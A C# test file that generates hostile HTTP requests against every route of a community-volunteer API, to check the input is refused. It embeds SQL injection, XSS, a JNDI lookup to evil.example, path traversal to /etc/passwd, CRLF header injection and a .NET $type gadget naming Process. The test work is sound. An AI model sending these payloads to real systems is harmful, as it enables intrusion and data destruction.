using System.Reflection;
using System.Text;
using System.Text.Encodings.Web;
using System.Text.Json;
using System.Text.Json.Nodes;
using NodaTime;
using QunTuan.Api.Access;
using QunTuan.Api.Infrastructure;
using Wolverine.Http;

namespace QunTuan.Api.Tests.Hostile;

/// <summary>What a JSON value stands for, which decides what hostile values make sense in it.</summary>
public enum FieldKind
{
    /// <summary>Names, notes, reasons: any text is valid, so an injection string alone is not hostile here.</summary>
    FreeText,
    /// <summary>Codes, community references, usernames, photo keys: text with a format.</summary>
    FormattedText,
    Guid,
    Date,
    Time,
    /// <summary>A NodaTime duration, "H:mm:ss".</summary>
    Duration,
    Instant,
    Enum,
    Integer,
    Boolean,
    Array,
    Object
}

/// <summary>One value in a request body, at <see cref="Path"/> (property names and array indexes).</summary>
public sealed record BodyField(IReadOnlyList<object> Path, FieldKind Kind, bool Nullable)
{
    public string Name => (string)Path.Last(p => p is string);

    public bool IsText => Kind is FieldKind.FreeText or FieldKind.FormattedText or FieldKind.Guid or FieldKind.Date
        or FieldKind.Time or FieldKind.Duration or FieldKind.Instant or FieldKind.Enum;

    public override string ToString() =>
        string.Concat(Path.Select((p, i) => p is int n ? $"[{n}]" : i == 0 ? (string)p : "." + p));
}

/// <summary>
/// One route and the input it takes: its route parameters, the query parameters its endpoint declares and, when
/// it reads a body, a body of the right shape with plausible values (<see cref="Sample"/>) and every field in it.
/// </summary>
public sealed record RouteShape(
    AccessRule Rule,
    IReadOnlyList<string> RouteParameters,
    IReadOnlyList<(string Name, FieldKind Kind)> Query,
    Type? BodyType,
    JsonObject? Sample,
    IReadOnlyList<BodyField> Fields)
{
    public string Key => Rule.Key;
    public bool HasBody => Sample is not null;
    public bool HasInput => RouteParameters.Count > 0 || Query.Count > 0 || HasBody;
}

/// <summary>One hostile request; <see cref="Input"/> says what is hostile about it, for the failure report.</summary>
public sealed record HostileRequest(
    string Category,
    string Route,
    string Method,
    string Url,
    byte[]? Body,
    string? ContentType,
    string Input,
    bool UnknownLength = false)
{
    public override string ToString() => $"[{Category}] {Route} <- {Input} ({Url.Length} chars of URL: {Shorten(Url)})";

    private static string Shorten(string s) => s.Length <= 160 ? s : s[..120] + "…" + s[^30..];
}

/// <summary>
/// Builds the hostile-input corpus from <see cref="AccessRules.All"/>, so every route, including routes added
/// later, is attacked. Route shapes come from the Wolverine endpoints by reflection: route parameters from the
/// template, query parameters and the request record from the endpoint method's parameters. A sample body is
/// made from the record's constructor, with values chosen by field name; <see cref="ValidBodies"/> overrides
/// values where a plausible one needs knowledge of the domain, and stands in for the body of a route whose
/// endpoint reflection cannot find.
/// </summary>
public static class HostileCorpus
{
    public const string MalformedJson = "malformed_json";
    public const string DeeplyNested = "deeply_nested_json";
    public const string WrongTypes = "wrong_types";
    public const string HugeNumbers = "huge_numbers";
    public const string OverlongStrings = "overlong_strings";
    public const string ControlCharacters = "control_and_zero_width_characters";
    public const string Injection = "sql_and_script_injection";
    public const string PathTraversal = "path_traversal_in_ids";
    public const string DuplicateKeys = "duplicate_keys";
    public const string OversizedBodies = "oversized_bodies";

    public static readonly IReadOnlyList<string> Categories =
    [
        MalformedJson, DeeplyNested, WrongTypes, HugeNumbers, OverlongStrings, ControlCharacters, Injection,
        PathTraversal, DuplicateKeys, OversizedBodies
    ];

    public const string JsonType = "application/json";

    /// <summary>Just over the 64 KB body limit (src/Api/Limits/BodySizeLimit.cs).</summary>
    public const int OversizedBodyBytes = 64 * 1024 + 1;

    /// <summary>Volunteer 1 (张晓梅): a member of the seeded patrol team, helper of elder 1.</summary>
    public static readonly Guid Volunteer = Guid.Parse("00000000-0000-7000-8000-000000000001");

    /// <summary>Volunteer 2 (李建国): a member of the seeded river team.</summary>
    public static readonly Guid OtherVolunteer = Guid.Parse("00000000-0000-7000-8000-000000000002");

    public static readonly Guid PatrolTeam = Guid.Parse("00000000-0000-7000-8100-000000000001");
    public static readonly Guid RiverTeam = Guid.Parse("00000000-0000-7000-8000-0000000a0001");
    public static readonly Guid RiverSegment = Guid.Parse("00000000-0000-7000-8000-0000000a1001");

    /// <summary>The id of nothing: a client-chosen id for a new resource, or a route value with no seeded resource.</summary>
    public static readonly Guid Unused = Guid.Parse("0196a1b2-0000-7000-8000-00000000f00d");

    /// <summary>String fields with a format rather than free text, by JSON name.</summary>
    private static readonly HashSet<string> FormattedNames =
        ["code", "activityCode", "categoryCode", "community", "communityId", "username", "password", "photoRef"];

    /// <summary>
    /// Dates that may lie any distance in the past: a point rule may be in force "since year 1", which values
    /// every service that can still be recorded (at most 366 days old) exactly as a rule of last year would.
    /// Only their future is bounded, because rule versions must start in order.
    /// </summary>
    private static readonly HashSet<string> BackdatingAllowed = ["effectiveFrom", "ruleEffectiveFrom"];

    /// <summary>String query parameters that the endpoint parses (the rest are free-text filters).</summary>
    private static readonly HashSet<string> FormattedQueryNames = ["status", "from", "to"];

    /// <summary>
    /// Values a plausible body needs that field names alone do not tell, merged over the reflected sample; for a
    /// route whose endpoint reflection cannot find, the whole body. With them every sample, sent as it is against
    /// the test's arrangement, is accepted (except sign-in and activation, which need a real account, and the
    /// reversal of the arranged record, which is pending): so a hostile variant is refused for its hostile part.
    /// </summary>
    public static readonly IReadOnlyDictionary<string, string> ValidBodies = new Dictionary<string, string>
    {
        ["POST /api/activities"] =
            """{"code":"CB11","categoryCode":"CB","rule":{"kind":"per_occasion","points":10,"standardMinutes":60,"minimumMinutes":null,"weeklyCap":null}}""",
        ["POST /api/activities/{code}/rules"] =
            """{"effectiveFrom":"2026-12-01","rule":{"kind":"per_hour","points":12,"standardMinutes":180,"minimumMinutes":60,"weeklyCap":null}}""",
        ["POST /api/communities"] = """{"code":"meihua","permanentResidents":5000}""",
        ["POST /api/users"] = """{"username":"probe-user","roles":["auditor"]}""",
        ["POST /api/auth/activate"] = """{"username":"probe-user","code":"ABCD2345","password":"Lanhua-Probe-2026"}""",
        ["POST /api/auth/token"] = """{"username":"probe-user","password":"Lanhua-Probe-2026"}""",
        ["POST /api/service-records"] = """{"activityCode":"CB02","serviceDate":"2026-11-22","durationMinutes":null}""",
        ["POST /api/communities/{communityId}/volunteers"] = """{"volunteerId":null,"username":"probe-volunteer"}""",
        // Volunteer 1 is checked in by the arrangement; volunteer 3 is a member who is not.
        ["POST /api/patrol-shifts/{shiftId}/check-ins"] = """{"volunteerId":"00000000-0000-7000-8000-000000000003","code":null}""",
        ["POST /api/patrol-teams"] =
            """{"teamId":null,"organizerIds":["00000000-0000-7000-8000-000000000003"],"memberIds":[]}""",
        ["POST /api/patrol-teams/{teamId}/members"] = """{"volunteerId":"00000000-0000-7000-8000-000000000010"}""",
        ["POST /api/river-teams"] = """{"teamId":null,"segments":[{"name":"兰江北岸","lengthMetres":1500,"segmentId":null}]}""",
        ["POST /api/river-teams/{teamId}/segments"] = """{"segmentId":null}""",
        ["POST /api/river-teams/{teamId}/patrols"] =
            """{"start":"09:00:00","end":"11:30:00","participants":["00000000-0000-7000-8000-000000000002"],"patrolId":null}""",
        // Helpers are paired from the day the seeds ran: the test's today.
        ["POST /api/elders/{elderId}/visits"] = """{"visitDate":"2026-11-23"}""",
        ["PUT /api/volunteers/{volunteerId}/profile"] = """{"phone":null,"idCardNumber":null}""",
    };

    private static readonly JsonSerializerOptions AppJson = CreateAppJson();

    private static readonly JsonSerializerOptions Writer = new() { Encoder = JavaScriptEncoder.UnsafeRelaxedJsonEscaping };

    private static readonly Lazy<IReadOnlyList<RouteShape>> Shapes = new(() => AccessRules.All.Select(Shape).ToList());

    public static IReadOnlyList<RouteShape> Routes => Shapes.Value;

    /// <summary>The app's own JSON settings, strict as it binds request bodies.</summary>
    public static JsonSerializerOptions CreateAppJson()
    {
        var options = new JsonSerializerOptions(JsonSerializerDefaults.Web);
        JsonSetup.Configure(options);
        return options;
    }

    // ---- the corpus ------------------------------------------------------------------------------------------

    /// <summary>
    /// Every hostile request of one category. <paramref name="realValue"/> gives a valid value for a route
    /// parameter, by the path segment before it (<c>communities</c>, <c>patrol-shifts</c>), so one part of a
    /// request at a time is hostile and the rest names real resources.
    /// </summary>
    public static IReadOnlyList<HostileRequest> For(string category, Func<string, string> realValue)
    {
        var requests = new List<HostileRequest>();
        foreach (var route in Routes)
        {
            var builder = new Builder(category, route, realValue, requests);
            switch (category)
            {
                case MalformedJson: builder.Malformed(); break;
                case DeeplyNested: builder.Nested(); break;
                case WrongTypes: builder.WrongTypes(); break;
                case HugeNumbers: builder.HugeNumbers(); break;
                case OverlongStrings: builder.Overlong(); break;
                case ControlCharacters: builder.ControlCharacters(); break;
                case Injection: builder.Injection(); break;
                case PathTraversal: builder.PathTraversal(); break;
                case DuplicateKeys: builder.DuplicateKeys(); break;
                case OversizedBodies: builder.Oversized(); break;
                default: throw new ArgumentOutOfRangeException(nameof(category), category, null);
            }
        }
        return requests;
    }

    private sealed class Builder(string category, RouteShape route, Func<string, string> realValue,
        List<HostileRequest> into)
    {
        private const string SqlDrop = "'; DROP TABLE mt_events;--";
        private const string SqlOr = "' OR '1'='1";
        private const string ImgXss = "<img src=x onerror=alert(1)>";
        private const string ScriptXss = "<script>alert(1)</script>";

        // ---- categories ----

        public void Malformed()
        {
            Ids(("invalid UTF-8 in the path", "%C3%28"), ("truncated percent-encoding", "%E2%80"),
                ("bare percent sign", "%25%"));
            QueryValues(_ => [("invalid UTF-8", "%C3%28"), ("truncated percent-encoding", "%E2%80")]);
            if (!route.HasBody) return;
            var sample = Text(route.Sample!);
            var first = route.Fields[0].Name;
            RawBody("an open brace only", "{");
            RawBody("a close brace only", "}");
            RawBody("a property without a value", $$"""{"{{first}}":}""");
            RawBody("an array instead of an object", "[]");
            RawBody("JSON null", "null");
            RawBody("a JSON string", "\"text\"");
            RawBody("a JSON number", "42");
            RawBody("an empty body", "");
            RawBody("the sample cut in half", sample[..(sample.Length / 2)]);
            RawBody("trailing garbage", sample + "}{");
            RawBody("single quotes", $$"""{'{{first}}':'x'}""");
            RawBody("a trailing comma", sample[..^1] + ",}");
            RawBody("a comment", "/* hostile */" + sample);
            RawBody("NaN", $$"""{"{{first}}":NaN}""");
            Add("invalid UTF-8 inside a string", route.Rule.Method, Url(),
                [.. Encoding.UTF8.GetBytes($"{{\"{first}\":\""), 0xC3, 0x28, .. "\"}"u8], JsonType);
            Add("the sample as text/plain", route.Rule.Method, Url(), Encoding.UTF8.GetBytes(sample), "text/plain");
            Add("the sample as form data", route.Rule.Method, Url(), Encoding.UTF8.GetBytes($"{first}=x"),
                "application/x-www-form-urlencoded");
        }

        public void Nested()
        {
            Ids(("200 nested brackets", Repeat("%5B", 200) + Repeat("%5D", 200)));
            QueryValues(_ => [("200 nested brackets", Repeat("%5B", 200) + Repeat("%5D", 200))]);
            if (!route.HasBody) return;
            RawBody("200 nested arrays", Repeat("[", 200) + Repeat("]", 200));
            RawBody("200 nested objects", Repeat("{\"a\":", 200) + "1" + Repeat("}", 200));
            RawBody("5000 nested arrays", Repeat("[", 5000) + Repeat("]", 5000));
            foreach (var field in route.Fields.Where(f => f.Path.Count == 1))
                RawBody($"{field} = 200 nested arrays",
                    Replaced(route.Sample!, field.Path, Repeat("[", 200) + Repeat("]", 200)));
            foreach (var field in route.Fields.Where(f => f.Kind is FieldKind.Object or FieldKind.Array).Take(1))
                RawBody($"{field} = 200 nested objects",
                    Replaced(route.Sample!, field.Path, Repeat("{\"a\":", 200) + "1" + Repeat("}", 200)));
        }

        public void WrongTypes()
        {
            Ids(("true", "true"), ("null", "null"), ("3.14", "3.14"), ("[]", "%5B%5D"), ("{}", "%7B%7D"));
            QueryValues(kind => kind == FieldKind.Boolean
                ? [("maybe", "maybe"), ("1.5", "1.5")]
                : [("abc", "abc"), ("true", "true"), ("1.5", "1.5")]);
            if (!route.HasBody) return;
            foreach (var field in route.Fields)
            {
                foreach (var (label, value) in WrongValues(field.Kind))
                    Body($"{field} = {label}", field, JsonNode.Parse(value));
                if (!field.Nullable) Body($"{field} = null", field, null);
            }
            var everything = Clone();
            foreach (var field in route.Fields.Where(f => f.Path.Count == 1))
                Set(everything, field.Path, JsonNode.Parse(WrongValues(field.Kind)[0].Json));
            RawBody("every field of the wrong type", Text(everything));
        }

        public void HugeNumbers()
        {
            string[] huge = ["9223372036854775808", "1e30", "-2147483649", "99999999999999999999999999999999999999"];
            Ids(huge.Select(h => (h, h)).ToArray());
            QueryValues(kind => kind is FieldKind.Integer or FieldKind.Boolean
                ? huge.Select(h => (h, h)).ToArray()
                : [("year 9999999", "9999999-01-01")]);
            if (!route.HasBody) return;
            var numbers = route.Fields.Where(f => f.Kind == FieldKind.Integer).ToList();
            foreach (var field in numbers)
            foreach (var value in new[]
                     {
                         "1e30", "9223372036854775808", "-2147483649", "2147483648", "2147483647", "-2147483648",
                         "1e400", "-0.0000001"
                     })
                Body($"{field} = {value}", field, JsonNode.Parse(value));
            string[] farFuture = ["9999-12-31", "+10000-01-01"], farPast = ["0001-01-01", "-9998-01-01"];
            foreach (var field in route.Fields.Where(f => f.Kind == FieldKind.Date))
            foreach (var value in BackdatingAllowed.Contains(field.Name) ? farFuture : [.. farFuture, .. farPast])
                Body($"{field} = {value}", field, JsonValue.Create(value));
            foreach (var field in route.Fields.Where(f => f.Kind == FieldKind.Instant))
            foreach (var value in new[] { "9999-12-31T23:59:59Z", "0001-01-01T00:00:00Z", "-9998-01-01T00:00:00Z" })
                Body($"{field} = {value}", field, JsonValue.Create(value));
            if (numbers.Count == 0)
                foreach (var field in route.Fields.Where(f => f.Path.Count == 1))
                    Body($"{field} = 9223372036854775808", field, JsonNode.Parse("9223372036854775808"));
        }

        public void Overlong()
        {
            var real = RealGuidish();
            Ids(("5000 letters", new string('a', 5000)), ("5000 digits", new string('9', 5000)),
                ("a real id and 5000 more letters", real + new string('a', 5000)));
            QueryValues(_ => [("5000 digits", new string('9', 5000))]);
            if (!route.HasBody) return;
            foreach (var field in route.Fields.Where(f => f.IsText))
            {
                Body($"{field} = 10,000 letters", field, JsonValue.Create(new string('A', 10_000)));
                if (field.Kind == FieldKind.FreeText)
                    Body($"{field} = 10,000 Chinese characters", field, JsonValue.Create(new string('界', 10_000)));
            }
        }

        public void ControlCharacters()
        {
            var real = RealGuidish();
            // A decoded NUL never reaches an application: ASP.NET Core's PathString refuses it (Kestrel answers 400,
            // the test server throws), so the path carries "%00" as text and real NULs go in the query and bodies.
            Ids(("%00 as text", "%2500"), ("a real id then %00 as text", real + "%2500"),
                ("zero-width space then a real id", "%E2%80%8B" + real),
                ("a real id then a right-to-left override", real + "%E2%80%AE"),
                ("CRLF and a header", "%0D%0ASet-Cookie:%20admin=1"), ("a real id then a newline", real + "%0A"),
                ("a tab then a real id", "%09" + real), ("BEL", "%07"));
            QueryValues(_ => [("1 then NUL", "1%00"), ("zero-width space", "%E2%80%8B1")]);
            if (!route.HasBody) return;
            foreach (var field in route.Fields.Where(f => f.IsText))
            {
                var value = SampleText(field);
                Body($"{field} with NUL", field, JsonValue.Create(value + "\u0000"));
                Body($"{field} with a zero-width space", field, JsonValue.Create("\u200B" + value));
                Body($"{field} with a right-to-left override", field, JsonValue.Create(value + "\u202Eevil"));
                Body($"{field} with ESC", field, JsonValue.Create(value + "\u001B[2J"));
            }
            var text = route.Fields.FirstOrDefault(f => f.IsText);
            if (text is not null)
            {
                // A raw control character inside a JSON string is not JSON at all.
                var body = Text(route.Sample!).Replace($"\"{text.Name}\":\"", $"\"{text.Name}\":\"\u0001");
                RawBody($"{text} with a raw (unescaped) control character", body);
            }
        }

        public void Injection()
        {
            Ids(("' OR 1=1--", Escape("' OR 1=1--")), ("DROP TABLE", Escape("1; DROP TABLE mt_events;--")),
                ("<script>", Escape(ScriptXss)), ("JNDI lookup", Escape("${jndi:ldap://evil.example/a}")),
                ("template expression", Escape("{{7*7}}")), ("quote after a real value", Escape(RealValueFor(0) + "' --")));
            QueryValues(kind => kind is FieldKind.Integer or FieldKind.Boolean
                ? [("1 OR 1=1", Escape("1 OR 1=1")), ("<script>", Escape(ScriptXss))]
                : [("' OR '1'='1", Escape("pending' OR '1'='1")), ("DROP TABLE", Escape("2026-01-01" + SqlDrop))]);
            if (!route.HasBody) return;
            foreach (var field in route.Fields.Where(f => f.Kind is not (FieldKind.Array or FieldKind.Object)))
            {
                if (field.Kind == FieldKind.FreeText)
                {
                    // Free text may say anything; paired with a control character it must still be refused.
                    Body($"{field} = DROP TABLE and NUL", field, JsonValue.Create(SqlDrop + "\u0000"));
                    Body($"{field} = <script> and a right-to-left override", field, JsonValue.Create(ScriptXss + "\u202E"));
                    continue;
                }
                Body($"{field} = DROP TABLE", field, JsonValue.Create(SqlDrop));
                Body($"{field} = ' OR '1'='1", field, JsonValue.Create(SqlOr));
                Body($"{field} = <img onerror>", field, JsonValue.Create(ImgXss));
            }
            RawBody("a $type gadget", Text(route.Sample!)[..^1] + ",\"$type\":\"System.Diagnostics.Process, System\"}");
            RawBody("__proto__", Text(route.Sample!)[..^1] + ",\"__proto__\":{\"isAdmin\":true}}");
        }

        public void PathTraversal()
        {
            Ids(("../../etc/passwd", "../../etc/passwd"), ("..%2F..%2Fetc%2Fpasswd", "..%2F..%2Fetc%2Fpasswd"),
                ("%2e%2e%2f twice", "%2e%2e%2f%2e%2e%2fetc%2fpasswd"), ("..\\..\\windows", "..%5C..%5Cwindows%5Cwin.ini"),
                ("double-encoded", "%252e%252e%252fetc%252fpasswd"), ("a real id then ../", RealValueFor(0) + "%2F..%2F.."));
            QueryValues(_ => [("../../etc/passwd", Escape("../../etc/passwd"))]);
            if (!route.HasBody) return;
            foreach (var field in route.Fields.Where(f =>
                         f.Kind is FieldKind.Guid or FieldKind.FormattedText or FieldKind.Date or FieldKind.Enum))
            {
                Body($"{field} = ../../etc/passwd", field, JsonValue.Create("../../etc/passwd"));
                Body($"{field} = ..\\..\\windows\\win.ini", field, JsonValue.Create("..\\..\\windows\\win.ini"));
                Body($"{field} = file:///etc/passwd", field, JsonValue.Create("file:///etc/passwd"));
            }
            foreach (var field in route.Fields.Where(f => f.Kind == FieldKind.FreeText))
                Body($"{field} = ../../etc/passwd and NUL", field, JsonValue.Create("../../etc/passwd\u0000"));
        }

        public void DuplicateKeys()
        {
            if (route.Query.FirstOrDefault(q => q.Kind == FieldKind.Integer) is { Name: { } name })
                Add($"?{name}=1&{name}=-5", route.Rule.Method, Url() + $"?{name}=1&{name}=-5", null, null);
            if (!route.HasBody) return;
            foreach (var field in route.Fields.Where(f => f.Path[^1] is string))
                RawBody($"{field} twice", Duplicated(route.Sample!, field.Path, Alternative(field)));
            var first = route.Fields[0];
            RawBody($"{first} twice with the same value", Duplicated(route.Sample!, first.Path, Get(route.Sample!, first.Path)));
            RawBody($"{first} twice, differing in case", Duplicated(route.Sample!, [Capitalized(first.Name)],
                Get(route.Sample!, first.Path)));
        }

        public void Oversized()
        {
            var filler = new string('x', OversizedBodyBytes - """{"note":""}""".Length);
            var body = Encoding.UTF8.GetBytes($$"""{"note":"{{filler}}"}""");
            Add($"{body.Length} bytes", route.Rule.Method, Url(), body, JsonType);
            if (route.Rule.Method == "GET") return; // a GET body is never read, so an unannounced one is not refused
            Add($"{body.Length} bytes of unannounced length", route.Rule.Method, Url(), body, JsonType, unknownLength: true);
            if (!route.HasBody) return;
            // A valid shape whose one free-text field is huge: the limit is on bytes, not on JSON structure.
            if (route.Fields.FirstOrDefault(f => f.Kind == FieldKind.FreeText) is { } text)
                Body($"{text} of 22,000 Chinese characters (66 KB)", text, JsonValue.Create(new string('界', 22_000)));
        }

        // ---- parts of a request ----

        /// <summary>Each hostile value in each route parameter in turn, the other parameters and the body valid.</summary>
        private void Ids(params (string Label, string UrlText)[] values)
        {
            for (var i = 0; i < route.RouteParameters.Count; i++)
                foreach (var (label, text) in values)
                    Add($"{{{route.RouteParameters[i]}}} = {label}", route.Rule.Method, Url(i, text),
                        route.HasBody ? Encoding.UTF8.GetBytes(Text(route.Sample!)) : null,
                        route.HasBody ? JsonType : null);
        }

        /// <summary>Each hostile value in each query parameter the endpoint parses.</summary>
        private void QueryValues(Func<FieldKind, (string Label, string UrlText)[]> values)
        {
            foreach (var (name, kind) in route.Query.Where(q => q.Kind != FieldKind.FreeText))
                foreach (var (label, text) in values(kind))
                    Add($"?{name}={label}", route.Rule.Method, Url() + $"?{name}={text}", null, null);
        }

        private void Body(string input, BodyField field, JsonNode? value)
        {
            var body = Clone();
            Set(body, field.Path, value);
            RawBody(input, Text(body));
        }

        private void RawBody(string input, string json) =>
            Add(input, route.Rule.Method, Url(), Encoding.UTF8.GetBytes(json), JsonType);

        private void Add(string input, string method, string url, byte[]? body, string? contentType,
            bool unknownLength = false) =>
            into.Add(new HostileRequest(category, route.Key, method, url, body, contentType, input, unknownLength));

        private JsonObject Clone() => (JsonObject)route.Sample!.DeepClone();

        /// <summary>The route with real values, or with <paramref name="hostile"/> (already URL text) in parameter
        /// <paramref name="index"/>.</summary>
        private string Url(int index = -1, string? hostile = null)
        {
            var i = 0;
            var segments = route.Rule.Route.Split('/');
            for (var s = 0; s < segments.Length; s++)
            {
                if (!segments[s].StartsWith('{')) continue;
                segments[s] = i == index ? hostile! : Escape(realValue(segments[s - 1]));
                i++;
            }
            return string.Join('/', segments);
        }

        private string RealValueFor(int index)
        {
            if (route.RouteParameters.Count == 0) return "";
            var segments = route.Rule.Route.Split('/');
            var at = Array.FindIndex(segments, s => s == "{" + route.RouteParameters[index] + "}");
            return realValue(segments[at - 1]);
        }

        private string RealGuidish() => route.RouteParameters.Count == 0 ? "" : Escape(RealValueFor(0));

        private static string SampleText(BodyField field) => field.Kind switch
        {
            FieldKind.Guid => Volunteer.ToString(),
            FieldKind.Date => "2026-11-22",
            FieldKind.Time => "09:00:00",
            FieldKind.Duration => "168:00:00",
            FieldKind.Instant => "2026-11-23T02:30:00Z",
            FieldKind.Enum => "ok",
            FieldKind.FormattedText => "lanhua",
            _ => "巡查记录"
        };

        private static (string Label, string Json)[] WrongValues(FieldKind kind) => kind switch
        {
            FieldKind.FreeText or FieldKind.FormattedText => [("a number", "12345"), ("an array", "[\"x\"]"), ("true", "true")],
            FieldKind.Guid => [("a number", "42"), ("an object", "{\"id\":1}"), ("a short string", "\"1234\"")],
            FieldKind.Date => [("a number", "20261122"), ("a day-first date", "\"22/11/2026\""), ("Feb 30", "\"2026-02-30\"")],
            FieldKind.Time => [("a number", "900"), ("25 o'clock", "\"25:00:00\"")],
            FieldKind.Duration => [("a number", "3600"), ("an ISO period", "\"P7D\""), ("minutes past 59", "\"1:75:00\"")],
            FieldKind.Instant => [("Unix seconds", "1795399800"), ("no zone", "\"2026-11-23T10:30:00\"")],
            FieldKind.Enum => [("an integer", "0"), ("an unknown name", "\"NOT_A_VALUE\""), ("an array", "[\"ok\"]")],
            FieldKind.Integer => [("a numeric string", "\"60\""), ("true", "true"), ("a fraction", "1.5")],
            FieldKind.Boolean => [("a string", "\"true\""), ("a number", "1")],
            FieldKind.Array => [("an object", "{}"), ("a string", "\"x\"")],
            _ => [("an array", "[]"), ("a string", "\"x\"")]
        };

        /// <summary>A second value of the right type, so neither copy of a duplicated key is obviously wrong.</summary>
        private static JsonNode? Alternative(BodyField field) => field.Kind switch
        {
            FieldKind.Integer => JsonValue.Create(-5),
            FieldKind.Boolean => JsonValue.Create(true),
            FieldKind.Guid => JsonValue.Create(OtherVolunteer),
            FieldKind.Date => JsonValue.Create("2026-11-21"),
            FieldKind.Array => new JsonArray(),
            FieldKind.Object or FieldKind.Enum or FieldKind.Time or FieldKind.Duration or FieldKind.Instant => null,
            _ => JsonValue.Create("另一个值")
        };

        private static string Capitalized(string name) => char.ToUpperInvariant(name[0]) + name[1..];
    }

    // ---- JSON helpers ----------------------------------------------------------------------------------------

    private static string Text(JsonNode node) => node.ToJsonString(Writer);

    private static string Repeat(string s, int times) => string.Concat(Enumerable.Repeat(s, times));

    private static string Escape(string s) => Uri.EscapeDataString(s);

    private static JsonNode? Get(JsonNode root, IReadOnlyList<object> path)
    {
        JsonNode? node = root;
        foreach (var p in path) node = p is int i ? node![i] : node![(string)p];
        return node?.DeepClone();
    }

    private static void Set(JsonNode root, IReadOnlyList<object> path, JsonNode? value)
    {
        var parent = root;
        foreach (var p in path.Take(path.Count - 1)) parent = p is int i ? parent[i]! : parent[(string)p]!;
        if (path[^1] is int index) parent.AsArray()[index] = value;
        else parent.AsObject()[(string)path[^1]] = value;
    }

    /// <summary>The body as JSON text with the property at <paramref name="path"/> written a second time.</summary>
    private static string Duplicated(JsonObject body, IReadOnlyList<object> path, JsonNode? second) =>
        Rewrite(body, path, w => Write(w, second, null, 0, _ => { }, false), duplicate: true);

    /// <summary>The body as JSON text with raw JSON at <paramref name="path"/>: JsonNode cannot hold what is
    /// nested deeper than its own limit.</summary>
    private static string Replaced(JsonObject body, IReadOnlyList<object> path, string rawJson) =>
        Rewrite(body, path, w => w.WriteRawValue(rawJson, skipInputValidation: true), duplicate: false);

    private static string Rewrite(JsonObject body, IReadOnlyList<object> path, Action<Utf8JsonWriter> atPath,
        bool duplicate)
    {
        using var stream = new MemoryStream();
        using (var writer = new Utf8JsonWriter(stream, new JsonWriterOptions { Encoder = Writer.Encoder, SkipValidation = true }))
            Write(writer, body, path, 0, atPath, duplicate);
        return Encoding.UTF8.GetString(stream.ToArray());
    }

    /// <summary>Writes <paramref name="node"/>; <paramref name="path"/> is set while the node lies on the path.</summary>
    private static void Write(Utf8JsonWriter writer, JsonNode? node, IReadOnlyList<object>? path, int depth,
        Action<Utf8JsonWriter> atPath, bool duplicate)
    {
        if (path is not null && !duplicate && depth == path.Count)
        {
            atPath(writer);
            return;
        }
        var next = path is not null && depth < path.Count ? path[depth] : null;
        switch (node)
        {
            case JsonObject obj:
                writer.WriteStartObject();
                foreach (var (name, value) in obj)
                {
                    writer.WritePropertyName(name);
                    Write(writer, value, next as string == name ? path : null, depth + 1, atPath, duplicate);
                }
                if (duplicate && path is not null && depth == path.Count - 1)
                {
                    writer.WritePropertyName((string)path[depth]);
                    atPath(writer);
                }
                writer.WriteEndObject();
                break;
            case JsonArray array:
                writer.WriteStartArray();
                for (var i = 0; i < array.Count; i++)
                    Write(writer, array[i], next is int at && at == i ? path : null, depth + 1, atPath, duplicate);
                writer.WriteEndArray();
                break;
            case null:
                writer.WriteNullValue();
                break;
            default:
                node.WriteTo(writer);
                break;
        }
    }

    // ---- route shapes by reflection --------------------------------------------------------------------------

    private static RouteShape Shape(AccessRule rule)
    {
        var routeParameters = rule.Route.Split('/').Where(s => s.StartsWith('{')).Select(s => s.Trim('{', '}')).ToList();
        var endpoint = Endpoint(rule);
        var query = new List<(string, FieldKind)>();
        Type? bodyType = null;
        if (endpoint is not null)
            foreach (var p in endpoint.GetParameters())
            {
                var type = Nullable.GetUnderlyingType(p.ParameterType) ?? p.ParameterType;
                if (routeParameters.Contains(p.Name!)) continue;
                if (IsRequestRecord(p.ParameterType)) bodyType = p.ParameterType;
                else if (type.IsPrimitive || type == typeof(string))
                    query.Add((p.Name!, type == typeof(string)
                        ? FormattedQueryNames.Contains(p.Name!) ? FieldKind.FormattedText : FieldKind.FreeText
                        : type == typeof(bool) ? FieldKind.Boolean : FieldKind.Integer));
            }

        ValidBodies.TryGetValue(rule.Key, out var overrides);
        JsonObject? sample = null;
        var fields = new List<BodyField>();
        if (bodyType is not null)
        {
            sample = (JsonObject)SampleOf(bodyType, "", 0)!;
            if (overrides is not null) Merge(sample, JsonNode.Parse(overrides)!.AsObject());
            Walk(bodyType, [], sample, fields);
        }
        else if (overrides is not null && endpoint is null)
        {
            sample = JsonNode.Parse(overrides)!.AsObject();
            WalkJson(sample, [], fields);
        }
        return new RouteShape(rule, routeParameters, query, bodyType, sample, fields);
    }

    private static MethodInfo? Endpoint(AccessRule rule) =>
        typeof(AccessRules).Assembly.GetTypes()
            .SelectMany(t => t.GetMethods(BindingFlags.Public | BindingFlags.Static))
            .FirstOrDefault(m => m.GetCustomAttributes<WolverineHttpMethodAttribute>().Any(a =>
                string.Equals(a.HttpMethod, rule.Method, StringComparison.OrdinalIgnoreCase) &&
                "/" + a.Template.TrimStart('/') == rule.Route));

    /// <summary>Request bodies are records of the API (or the ledger types they nest).</summary>
    private static bool IsRequestRecord(Type type) =>
        type.IsClass && type != typeof(string) && type.Namespace?.StartsWith("QunTuan.Api") == true &&
        type.GetMethod("<Clone>$") is not null;

    private static ConstructorInfo Constructor(Type type) =>
        type.GetConstructors().OrderByDescending(c => c.GetParameters().Length).First();

    private static Type? ElementType(Type type) =>
        type.IsArray ? type.GetElementType()
        : type.IsGenericType && type != typeof(string) && type.GetGenericArguments().Length == 1 &&
          typeof(System.Collections.IEnumerable).IsAssignableFrom(type) ? type.GetGenericArguments()[0]
        : null;

    private static FieldKind KindOf(string name, Type declared)
    {
        var type = Nullable.GetUnderlyingType(declared) ?? declared;
        if (type == typeof(string)) return FormattedNames.Contains(name) ? FieldKind.FormattedText : FieldKind.FreeText;
        if (type == typeof(Guid)) return FieldKind.Guid;
        if (type == typeof(LocalDate)) return FieldKind.Date;
        if (type == typeof(LocalTime)) return FieldKind.Time;
        if (type == typeof(Duration)) return FieldKind.Duration;
        if (type == typeof(Instant)) return FieldKind.Instant;
        if (type.IsEnum) return FieldKind.Enum;
        if (type == typeof(bool)) return FieldKind.Boolean;
        if (type.IsPrimitive || type == typeof(decimal)) return FieldKind.Integer;
        return ElementType(type) is not null ? FieldKind.Array : FieldKind.Object;
    }

    private static string Json(string parameterName) => JsonNamingPolicy.CamelCase.ConvertName(parameterName);

    /// <summary>A plausible value of <paramref name="type"/> for a field called <paramref name="name"/>.</summary>
    private static JsonNode? SampleOf(Type declared, string name, int depth)
    {
        var type = Nullable.GetUnderlyingType(declared) ?? declared;
        var kind = KindOf(name, type);
        switch (kind)
